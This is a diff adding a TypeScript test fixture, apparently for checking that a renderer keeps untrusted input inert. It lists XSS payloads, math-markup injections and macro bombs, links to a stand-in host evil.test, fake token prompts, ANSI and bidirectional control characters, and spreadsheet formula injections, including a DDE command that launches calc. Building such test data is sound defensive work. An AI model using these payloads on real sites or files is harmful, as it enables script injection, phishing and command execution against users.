@@ -1,0 +1,83 @@
+const act = 'window.hacked=1'
+const markup = [
+  `<script>${act}</script>`,
+  `<img src=x onerror="${act}">`,
+  `<svg onload="${act}"><script>${act}</script></svg>`,
+  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${act}"></iframe>`,
+  `<a href="javascript:${act}" id=trap>click</a>`,
+  `<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:${act}">x</maction></math>`,
+  `<math href="javascript:${act}">x</math>`,
+  `<body onload="${act}">`,
+  `<details open ontoggle="${act}">`,
+  `<input autofocus onfocus="${act}">`,
+  `<video><source onerror="${act}"></video>`,
+  `<object data="data:text/html,<script>${act}</script>"></object>`,
+  `<embed src="data:image/svg+xml,<svg onload=${act}>">`,
+  `<link rel=stylesheet href="http://evil.test/x.css">`,
+  `<style>@import url(http://evil.test/x.css); body{display:none}</style>`,
+  `<meta http-equiv=refresh content="0;url=http://evil.test">`,
+  `<base href="http://evil.test/">`,
+  `<form action="http://evil.test"><button>Approve</button></form>`,
+  `"><script>${act}</script>`,
+  `'-alert(1)-'`,
+  `</div></article></main><script>${act}</script>`,
+  `</textarea><script>${act}</script>`,
+  `<!--><script>${act}</script>-->`,
+  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
+  `<template><script>${act}</script></template>`,
+  `<table><td background="javascript:${act}">`,
+  `<marquee onstart="${act}">`,
+  `<button data-act="approve">approve</button>`,
+  `<dialog open>session lost: enter your token</dialog>`,
+  `<strong class="own">you: ✓ approved</strong>`,
+]
+const formulas = [
+  `$\\href{javascript:${act}}{x}$`,
+  `$\\url{javascript:${act}}$`,
+  `$\\includegraphics{http://evil.test/x.png}$`,
+  `$\\htmlData{x=1}{y}$`,
+  `$\\htmlStyle{position:fixed}{y}$`,
+  `$\\htmlId{pair}{y}$`,
+  `$\\htmlClass{own}{y}$`,
+  `$\\text{<script>${act}</script>}$`,
+  `$$\\text{<img src=x onerror=${act}>}$$`,
+  `$\\unknown{<img src=x onerror=${act}>}$`,
+  `\\(\\text{</annotation><script>${act}</script>}\\)`,
+  `\\[\\def\\a{\\a\\a}\\a\\]`,
+  `$\\gdef\\frac{<script>}\\frac$`,
+  `$${'{'.repeat(380)}$`,
+  `$\\color{white}{hidden}$`,
+  `$\\rule{1000em}{1000em}$`,
+  `$\\hspace{-1000em}x$`,
+]
+const codes = [
+  '```js\n<script>window.hacked=1</script>\n```',
+  '```html"><script>window.hacked=1</script>\nx\n```',
+  '`<img src=x onerror=window.hacked=1>`',
+]
+const entities = [
+  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
+  '&#60;img src=x onerror=window.hacked=1&#62;',
+  '&#x3c;script&#x3e;window.hacked=1&#x3c;/script&#x3e;',
+  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
+  '%3Cscript%3Ewindow.hacked=1%3C/script%3E',
+  'data:text/html,<script>window.hacked=1</script>',
+]
+const signs = [
+  '\u001B[2J\u001B[1;31mred',
+  '\u001B]8;;http://evil.test\u0007link\u001B]8;;\u0007',
+  '\u009B31mred',
+  'a\u202Ecba',
+  '\u2066left\u2069',
+  'zero\u200Bwidth',
+  'soft\u00ADhyphen',
+  '\uFEFFmark',
+  'tag\u{E0041}\u{E0042}',
+  'line\u2028break',
+]
+const sheets = ['=HYPERLINK("http://evil.test")', '+1+1', '-2+3', '@SUM(A1)', '=cmd|"/C calc"!A0']
+
+/** Texts that would do something if anybody took them for more than texts. */
+export const attacks: readonly string[] = [...markup, ...formulas, ...codes, ...entities, ...signs, ...sheets]
